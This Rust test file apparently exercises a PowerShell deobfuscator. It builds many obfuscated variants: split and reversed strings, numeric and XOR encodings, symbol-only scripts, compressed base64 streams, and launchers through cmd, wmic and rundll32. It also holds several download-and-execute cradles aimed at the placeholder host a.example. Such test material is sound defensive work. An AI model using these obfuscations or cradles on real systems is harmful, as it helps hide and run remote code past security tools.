//! The styles that obfuscators publish: tokens, strings, encodings, compression, launchers.

use std::io::Write as _;

use super::{CRADLE, HELLO, URL, all_open, base64, codes, gzipped, one, wide};

fn quoted(text: &str) -> String {
    text.replace('\'', "''")
}

fn deflated(text: &str) -> String {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(text.as_bytes()).unwrap();
    base64(&encoder.finish().unwrap())
}

#[test]
fn styles_of_strings() {
    let hello = quoted(HELLO);
    let backwards: String = HELLO.chars().rev().collect();
    let mut cases: Vec<(&'static str, String)> = Vec::new();
    let mut hello_by = |script: String| cases.push((HELLO, script));
    hello_by(format!(
        "( ('{}'+'{}'+'{}') ) | .( $PSHome[4]+$PSHOME[30]+'x')",
        &hello[..7],
        &hello[7..15],
        &hello[15..]
    ));
    hello_by(format!(
        "IEX ((\"{{2}}{{0}}{{1}}\" -f '{}','{}','{}'))",
        &hello[7..15],
        &hello[15..],
        &hello[..7]
    ));
    hello_by(format!(
        "$X9='{}'; [arRAy]::REvErSe(($X9=[CHAr[]]$X9)); iEx ($X9 -JoIn '')",
        quoted(&backwards)
    ));
    hello_by(format!("$2eI = \"{backwards}\" ; IEX ( $2ei[- 1..-( $2EI.LengTh )]-Join '') "));
    hello_by(format!(
        "( [RegeX]::mAtCHEs(\"{backwards}\" , '.' ,'riGhTTOleFt' )|%{{ $_.vALUE}} )-JoIn ''|& ( $sHeLLID[1]+$sHElliD[13]+'x')"
    ));
    hello_by(format!("(('{}').rePLACE('{}',[STRing][cHAr]39)) | iex", HELLO.replace('\'', "Z9q"), "Z9q"));
    hello_by(format!("(('{}') -cREPLacE([ChaR]81+[ChaR]113),[ChaR]39)|IEX", HELLO.replace('\'', "Qq")));
    hello_by(format!(
        "Set-Variable ('o'+'fs') '' ; iEX ( '{}' -SPLIt '~' -jOIN '' )",
        quoted(&HELLO.replace("ou", "o~u").replace("el", "e~l"))
    ));
    all_open(&cases);
}

/// Texts as numbers of characters.
#[test]
fn styles_of_encodings() {
    let mut cases: Vec<(&'static str, String)> = Vec::new();
    let mut hello_by = |script: String| cases.push((HELLO, script));
    let separators = ['~', 'z', '%', 'G'];
    let mixed = |code: &dyn Fn(u8) -> String| {
        let all = HELLO.bytes().enumerate().map(|(at, byte)| format!("{}{}", code(byte), separators[at % 4]));
        all.collect::<String>().trim_end_matches(separators).to_owned()
    };
    hello_by(format!(
        "-JoIN('{}'-spLIT'~'-SPlIt 'z' -SPLit '%'-split'G' | foReacH-OBJecT {{ ([CHAr] [INt]$_)}} ) | IeX",
        mixed(&|b| b.to_string())
    ));
    hello_by(format!(
        "[StriNg]::JOiN('',('{}'.SPLIT('~z%G')|%{{([CONVerT]::tOInT16(($_.TOSTRiNG()),16) -as [cHaR])}})) |.( $env:COMSPeC[4,24,25]-JoIN'')",
        mixed(&|b| format!("{b:x}")).replace(['z', 'G'], "~")
    ));
    hello_by(format!(
        "( '{}'-split'!'|%{{ ([convert]::toint16( ([string]$_ ) ,8)-AS[char]) }})-join'' | iex",
        codes(HELLO, "!", |b| format!("{b:o}"))
    ));
    hello_by(format!(
        "[string]::join( '' ,( ({}) |%{{ ( [char][int]$_) }}))|& ((GET-VaRIAble '*mdr*').NamE[3,11,2]-jOiN'')",
        codes(HELLO, " , ", |b| b.to_string())
    ));
    hello_by(format!(
        "( '{}'.SPlIt('b') | fOREacH {{ [CHAR]( [CoNverT]::ToInT32( $_ ,2 ) ) }} )-joIN '' | InVOKe-exPReSsIoN",
        codes(HELLO, "b", |b| format!("{b:b}"))
    ));
    hello_by(format!(
        "(({}) |%{{ [ChaR]($_ -BxOR \"0x4B\" )}})-JoiN'' |iex",
        codes(HELLO, ",", |b| (b ^ 0x4b).to_string())
    ));
    hello_by(format!(
        "$k='ab';$i=0;( '{}' -split '-' |%{{ [char]([int]$_ -bxor [int]$k[$i++ % $k.Length]) }} ) -join '' | iex",
        HELLO
            .bytes()
            .enumerate()
            .map(|(at, b)| (b ^ b"ab"[at % 2]).to_string())
            .collect::<Vec<_>>()
            .join("-")
    ));
    hello_by(format!(
        "IEX ($( SET-ITEM 'VaRIaBle:oFs' '')+[stRiNG]( '{}'-SPlIT ',' |%{{([char][int]$_)}})+$(sV 'OFS' ' ') )",
        codes(HELLO, ",", |b| b.to_string())
    ));
    // White space as digits: so many blanks, then a tab.
    let digits: Vec<String> = HELLO
        .bytes()
        .map(|b| {
            b.to_string()
                .bytes()
                .map(|digit| " ".repeat(usize::from(digit - b'0') + 1))
                .collect::<Vec<_>>()
                .join("\t")
        })
        .collect();
    hello_by(format!(
        "$w='{}';(-join($w.Split(\"`n\")|%{{$n='';$_.Split(\"`t\")|%{{$n+=$_.Length-1}};[char][int]$n}}))|iex",
        digits.join("\n")
    ));
    all_open(&cases);
}

/// Scripts of nothing but signs.
#[test]
fn styles_of_signs() {
    let mut cases: Vec<(&'static str, String)> = Vec::new();
    let mut hello_by = |script: String| cases.push((HELLO, script));
    let signs = {
        let mut digits = vec!["${=}", "${+}", "${@}", "${.}", "${[}", "${]}", "${(}", "${)}", "${&}", "${|}"];
        digits.truncate(10);
        let code = |b: u8| b.to_string().bytes().map(|d| digits[usize::from(d - b'0')]).collect::<String>();
        codes(HELLO, "+", |b| format!("${{\"}}{}", code(b)))
    };
    hello_by(format!(
        "${{;}}=+$();${{=}}=${{;}};${{+}}=++${{;}};${{@}}=++${{;}};${{.}}=++${{;}};${{[}}=++${{;}};${{]}}=++${{;}};${{(}}=++${{;}};${{)}}=++${{;}};${{&}}=++${{;}};${{|}}=++${{;}};\
         ${{\"}}=\"[\"+\"$(@{{}})\"[${{)}}]+\"$(@{{}})\"[\"${{+}}${{|}}\"]+\"$(@{{}})\"[\"${{@}}${{=}}\"]+\"$?\"[${{+}}]+\"]\";\
         ${{;}}=\"\".(\"$(@{{}})\"[\"${{+}}${{[}}\"]+\"$(@{{}})\"[\"${{+}}${{(}}\"]+\"$(@{{}})\"[${{=}}]+\"$(@{{}})\"[${{[}}]+\"$?\"[${{+}}]+\"$(@{{}})\"[${{.}}]);\
         ${{;}}=\"$(@{{}})\"[\"${{+}}${{[}}\"]+\"$(@{{}})\"[${{[}}]+\"${{;}}\"[\"${{@}}${{)}}\"];\"{signs}|${{;}}\"|&${{;}}"
    ));
    all_open(&cases);
}

/// Streams, and ways to start a script: other programs, variables, pipes.
#[test]
fn styles_of_streams_and_launchers() {
    let hello = quoted(HELLO);
    let mut cases: Vec<(&'static str, String)> = Vec::new();
    let mut hello_by = |script: String| cases.push((HELLO, script));
    hello_by(format!(
        "iEx( nEW-ObJECt sYStem.io.COMpREsSIoN.DeFlaTeStREAm( [SYSTEM.io.MeMORySTReam] [CONVerT]::fROMbase64STRinG('{}'),[Io.COMPresSioN.coMpREsSIoNmOde]::DECOMPReSs )|foREACH-oBJECT{{nEW-ObJECt io.STReaMREAder( $_,[teXT.ENcoDING]::aScII )}} |foREACH-oBJECT {{ $_.READToEnd()}})",
        deflated(HELLO)
    ));
    hello_by(format!(
        "&( $VErbosEPrEFErencE.toString()[1,3]+'X'-JoIn'')( (nEw-ObjeCt io.StReamREaDer(( nEw-ObjeCt SYSTEm.iO.cOmprEsSioN.GZiPStream([Io.MEmorYStreAm] [CoNveRt]::FroMBAse64stRiNG( '{}' ),[iO.cOmprEsSioN.COmpreSSioNMODE]::deCOmPress)) ,[TEXt.enCODinG]::AsCii) ).reADTOenD())",
        gzipped(HELLO)
    ));
    hello_by(format!("powershell.exe \"-NoP\" -c \"{HELLO}\""));
    hello_by(format!("cmd.exe /c \"echo {HELLO}|powershell -\""));
    hello_by(format!("cmd /c \"set x=1&&powershell -e {}\"", wide(HELLO)));
    hello_by(format!("$env:qq=\"{HELLO}\"; IEX ( ls env:qq ).Value"));
    hello_by(format!("$env:qq=\"{HELLO}\"; ( Get-Item env:qq ).Value | powershell -noni -"));
    hello_by(format!("'{hello}' | pOwErsHeLl -NoPr -"));
    hello_by(format!("wmic process call create \"powershell -enc {}\"", wide(HELLO)));
    hello_by(format!(
        "rundll32.exe SHELL32.DLL,ShellExec_RunDLL \"powershell.exe\" \"-enc {}\"",
        wide(HELLO)
    ));
    hello_by(format!("& (\"{{1}}{{0}}\" -f 'hell','powers') (\"{{1}}{{0}}\"-f 'c','-e') {}", wide(HELLO)));
    hello_by(format!(
        "$s=[PowerShell]::Create().AddScript('{}'+'{}'); $s.Invoke()",
        &hello[..9],
        &hello[9..]
    ));
    hello_by(format!(
        "$ExecutionContext.InvokeCommand.NewScriptBlock('{}'+'{}').Invoke()",
        &hello[..9],
        &hello[9..]
    ));
    hello_by(format!(
        "Start-Job -ScriptBlock ([scriptblock]::Create('{}'+'{}'))|Receive-Job -Wait",
        &hello[..9],
        &hello[9..]
    ));
    hello_by(format!(
        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList ('powershell -enc '+'{}')",
        wide(HELLO)
    ));
    all_open(&cases);
}

/// Names of commands, members, types and arguments.
#[test]
fn styles_of_names() {
    let mut cases: Vec<(&'static str, String)> = Vec::new();
    cases.extend(one(URL, &[
        "&(\"{1}{0}\" -f 'EX','I') (&(\"{0}{1}{2}\" -f'New-O','bj','ect') (\"{2}{0}{1}\" -f't.WebCl','ient','Ne')).(\"{1}{0}\"-f'String','Download').Invoke((\"{1}{0}{2}\" -f'//a.exam','http:','ple/x'))",
        "I`E`X (N`ew-Ob`ject Net.Web`Cl`ient).\"D`o`wnloadStr`ing\"(\"ht\"+'tp:/'+'/a.exam'+\"ple/x\")",
        ".(gcm *w-O*) net.webclient|%{$_.downloadstring(('http:'+'//a.exam'+'ple/x'))}|.(gcm i*e-ex*)",
        "$w=New-Object (\"{0}.{1}\"-f'Net','WebClient');$u=[char[]](104,116,116,112)-join'';$w.DownloadFile(\"${u}://a.example/x\",'a')",
        "${W`c}=[Net.WebClient]::new();${W`c}.\"DownLOADsTRing\"(\"http://{0}/x\"-f('elpmaxe.a'[-1..-9]-join''))",
        "iwr ([Text.Encoding]::ASCII.GetString((104,116,116,112,58,47,47,97,46,101,120,97,109,112,108,101,47,120)))",
        "(New-Object Net.WebClient).DownloadString(([uri]::UnescapeDataString('http%3a%2f%2fa.example%2fx')))",
        "$x=('h{0}{0}p://a.e{1}ample/{1}'-f't','x');IEX(New-Object Net.WebClient).DownloadString($x)",
        "$h='687474703a2f2f612e6578616d706c652f78';$u='';for($i=0;$i -lt $h.Length;$i+=2){$u+=[char][byte]::Parse($h.Substring($i,2),[Globalization.NumberStyles]::HexNumber)};curl $u",
        "function Get-It([string]$s){$o='';foreach($p in $s -split '(..)' -ne ''){$o+=[char]([convert]::ToInt32($p,16))};return $o};iwr (Get-It '687474703a2f2f612e6578616d706c652f78')",
        "filter d{[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($_))};$u='aHR0cDovL2EuZXhhbXBsZS94'|d;iwr $u",
    ]));
    cases.push((CRADLE, format!("powershell -nop -w 1 -c \"IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))\"", wide(CRADLE))));
    all_open(&cases);
}
